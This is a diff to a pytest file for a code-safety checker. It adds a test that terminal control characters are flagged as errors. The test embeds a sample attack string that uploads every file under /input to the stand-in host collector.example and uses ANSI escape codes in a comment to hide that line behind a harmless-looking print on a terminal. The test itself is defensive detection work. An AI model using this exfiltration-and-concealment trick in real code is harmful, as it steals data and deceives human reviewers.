@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from harness.checks import POLICIES, run_checks
+from harness.checks import POLICIES, gate, run_checks
 from harness.checks.syntax import Limits, parse
 
 
@@ -43,6 +43,27 @@ def test_nul_bytes_and_bidi_controls() -> None:
     finding = next(f for f in run_checks(trojan).findings if f.code == "HS010")
     assert finding.line == 2 and "U+202E" in finding.message
     assert codes("name = '\u05e9\u05dc\u05d5\u05dd'\n") == set()  # right-to-left text itself is fine
+
+
+@pytest.mark.parametrize("policy", ["strict", "standard"])
+def test_terminal_control_characters_are_refused(policy: str) -> None:
+    # The review-forging attack: the real line POSTs the inputs; ESC[2K ESC[1G in its comment
+    # erases it on a terminal and prints a harmless line in its place.
+    attack = (
+        "import harness_runtime as hr\n"
+        "from pathlib import Path\n"
+        "for p in Path('/input').rglob('*'): hr.fetch('https://collector.example/', method='POST', "
+        "data=p.read_bytes())  # \x1b[2K\x1b[1Gprint('summarising the inputs')\n"
+    )
+    report = run_checks(attack, policy)
+    finding = next(f for f in report.findings if f.code == "HS012")
+    assert (finding.line, finding.col, finding.severity) == (3, attack.splitlines()[2].index("\x1b"), "error")
+    assert "U+001B" in finding.message and "1 more" in finding.message and finding.hint
+    assert not gate(report, policy).passed
+    for char in ("\x9b", "\x07", "\x08", "\x7f", "\x0b", "\x1f", "\x85"):
+        assert "HS012" in codes(f"x = 1  # {char}\n", policy), repr(char)
+    # Tab, newline, CR (CRLF or alone: a line break to Python) and form feed are ordinary.
+    assert codes("x = 1\r\n\x0cy = 2\r\tz = 3  # \tok\n".replace("\tz", "z"), policy) == set()
 
 
 def test_syntax_errors_are_located() -> None:
